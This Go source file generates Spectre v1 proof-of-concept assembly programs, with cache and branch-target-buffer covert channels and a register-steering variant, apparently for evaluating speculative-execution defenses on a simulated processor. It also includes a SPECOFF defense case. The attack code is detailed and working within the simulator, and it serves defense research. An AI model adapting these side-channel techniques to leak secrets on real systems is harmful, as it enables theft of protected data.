package attack

import (
	"fmt"
	"strings"
)

// specSpectreV1Cache builds the Listing 1 PoC: a bounds-check-bypass read
// of a secret byte, transmitted through the D-cache and recovered by timing
// probe-array loads.
//
// Layout: array is 16 bytes (size=16); the secret byte sits at array+48,
// inside array's cache line (so the victim's ordinary activity keeps it
// warm) but outside the architecturally permitted bounds.
func specSpectreV1Cache() *poc {
	src := `
        .data
        .org 0x100000
size:   .word64 16           # own cache line: flushing it leaves array warm
        .align 64
array:  .space 48
secret: .byte 42             # array+48: same line as array, out of bounds
` + dataCommon + `
        .text
main:
` + uniq(trainVictim(16), 1) + flushProbe + `
        la   s2, size
        clflush (s2)         # slow bounds check = wide speculation window
        li   a0, 48          # out-of-bounds index reaching the secret
        call victim
` + recoverCache + `
        halt

# victim(a0 = x): if (x < size) { t = probe[array[x] * 512]; }
victim: la   t0, size
        ld   t1, (t0)        # flushed by the attacker: resolves late
        bge  a0, t1, vend    # bounds check, mis-trained not-taken
        la   t2, array
        add  t2, t2, a0
        lbu  t3, (t2)        # ACCESS: read the secret
        slli t3, t3, 9       # pre-process: *512
        la   t4, probe
        add  t4, t4, t3
        lbu  t5, (t4)        # TRANSMIT: touch probe[secret*512]
vend:   ret
`
	return newPoC(src, 40) // D-cache hit vs DRAM miss: ~140 cycles apart
}

// specSpectreV1BTB builds the Listing 3 PoC: the same bounds-check bypass,
// but the secret is transmitted through the branch target buffer. The
// wrong-path victim calls jumpToTarget(secret), installing
// targets[secret] as the predicted target of the single fixed-PC indirect
// call; the recover phase times jumpToTarget(guess) — only the correct
// guess predicts right and skips the ~16-cycle squash.
func specSpectreV1BTB() *poc {
	var b strings.Builder
	b.WriteString(`
        .data
        .org 0x100000
size:   .word64 16           # own cache line: flushing it leaves array warm
        .align 64
array:  .space 48
secret: .byte 42
        .org 0x100fc0
dummy:  .word64 0            # flush target for training iterations
        .org 0x110000
inputs: .byte 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 48
        # Padding indices stay out-of-bounds: the mispredicted phantom
        # iteration after loop exit then re-transmits the secret instead of
        # clobbering the BTB entry with targets[array[0]].
        .byte 48, 48, 48, 48, 48, 48, 48, 48
        .align 64
targets:
`)
	// The 256 distinct target functions.
	b.WriteString("        .word64 ")
	for i := 0; i < NumGuesses; i++ {
		if i > 0 {
			b.WriteString(", ")
		}
		fmt.Fprintf(&b, "f%d", i)
	}
	b.WriteString("\n")
	b.WriteString(`
        .org 0x240000
results: .space 2048
        .text
main:   li   sp, 0x280000    # small stack for jumpToTarget
        # Warm the table, the target functions, and the BTB machinery.
        li   s1, 0
warm:   mv   a0, s1
        call jmp2t
        addi s1, s1, 1
        slti s3, s1, 256
        bne  s3, zero, warm

        li   s5, 0           # guess
        la   s6, results
        # Each round runs 15 in-bounds training calls and then the
        # out-of-bounds attack call through the SAME loop, so every call
        # sees an identical global-history context: the attack call
        # inherits the trained not-taken prediction and cannot self-train
        # the predictor against the attacker across rounds.
round:  li   s1, 0
        # Flush "size" only on the attack iteration (branchless select, so
        # the history context stays identical): training calls then resolve
        # their bounds check quickly and drain before the attack call, which
        # keeps their architectural jumpToTarget(0) BTB updates from landing
        # after the attack's wrong-path transmit.
iter:   slti s4, s1, 15      # 1 while training, 0 on the attack iteration
        addi s4, s4, -1      # 0 while training, -1 on the attack iteration
        la   s2, dummy
        la   s3, size
        sub  s3, s3, s2
        and  s3, s3, s4      # 0 or (size - dummy)
        add  s2, s2, s3      # dummy or size
        clflush (s2)
        fence                # order the flush before the victim's size load
        la   s2, inputs
        add  s2, s2, s1
        lbu  a0, (s2)
        call victim          # last iteration TRANSMITs via the BTB
        addi s1, s1, 1
        slti s3, s1, 16
        bne  s3, zero, iter

        rdcycle s8
        xor  a0, s8, s8
        add  a0, a0, s5      # a0 = guess, serialized behind rdcycle
        call jmp2t           # RECOVER: correct guess -> BTB predicts right
        rdcycle s7
        sub  s7, s7, s8
        sd   s7, (s6)
        fence                # keep next-round run-ahead from touching the
                             # BTB before the measured call resolves

        addi s6, s6, 8
        addi s5, s5, 1
        slti s3, s5, 256
        bne  s3, zero, round
        halt

# jumpToTarget(a0 = index): targets[index]() from one fixed call site.
jmp2t:  la   t0, targets
        slli t1, a0, 3
        add  t0, t0, t1
        ld   t2, (t0)
        addi sp, sp, -8
        sd   ra, (sp)
        callr t2             # the single BTB entry the channel lives in
        ld   ra, (sp)
        addi sp, sp, 8
        ret

# victim(a0 = x): if (x < size) { jumpToTarget(array[x]); }
victim: mv   s11, ra         # the nested call below clobbers ra
        la   t0, size
        ld   t1, (t0)
        bge  a0, t1, vend
        la   t2, array
        add  t2, t2, a0
        lbu  t3, (t2)        # ACCESS
        mv   a0, t3
        call jmp2t           # TRANSMIT via BTB update
vend:   mv   ra, s11
        ret
`)
	for i := 0; i < NumGuesses; i++ {
		fmt.Fprintf(&b, "f%d:    ret\n", i)
	}
	return newPoC(b.String(), 6) // BTB mispredict penalty: ~16 cycles
}

// specGPRSteering builds the hypothetical §4.2 attack: the secret already
// sits in a victim GPR (s5); the mis-steered wrong path pre-processes and
// transmits it with no access-phase load at all. Permissive propagation
// cannot stop it (non-loads stay safe); strict propagation breaks the
// pre-processing chain.
func specGPRSteering() *poc {
	src := `
        .data
        .org 0x100000
size:   .word64 16
        .align 64
array:  .space 16
` + dataCommon + `
        .text
main:   li   s5, 42           # the victim legitimately holds a secret GPR
` + uniq(trainVictim(16), 1) + flushProbe + `
        la   s2, size
        clflush (s2)
        li   a0, 48
        call victim
` + recoverCache + `
        halt

victim: la   t0, size
        ld   t1, (t0)
        bge  a0, t1, vend
        andi t3, s5, 0xff    # pre-process the GPR-resident secret
        slli t3, t3, 9
        la   t4, probe
        add  t4, t4, t3
        lbu  t5, (t4)        # TRANSMIT
vend:   ret
`
	return newPoC(src, 40)
}

// specGPRSteeringSpecOff is the §8 / Listing 4 software defense applied to
// the GPR-steering attack: the victim disables speculation (SPECOFF) for
// the window in which the secret lives in a register and re-enables it
// afterwards. With the front end serialized at every branch, there is no
// wrong path to steer — the attack fails under every policy, including the
// insecure baseline. (The paper notes this defense is only meaningful in
// addition to NDA: without NDA an attacker could steer execution around the
// SPECOFF itself in victims with richer control flow.)
func specGPRSteeringSpecOff() *poc {
	src := `
        .data
        .org 0x100000
size:   .word64 16
        .align 64
array:  .space 16
` + dataCommon + `
        .text
main:   li   s5, 42
` + uniq(trainVictim(16), 1) + flushProbe + `
        la   s2, size
        clflush (s2)
        li   a0, 48
        call victim
` + recoverCache + `
        halt

victim: specoff              # Listing 4: close the speculation window
        la   t0, size
        ld   t1, (t0)
        bge  a0, t1, vend    # no prediction: fetch waits for resolution
        andi t3, s5, 0xff
        slli t3, t3, 9
        la   t4, probe
        add  t4, t4, t3
        lbu  t5, (t4)
vend:   specon
        ret
`
	return newPoC(src, 40)
}
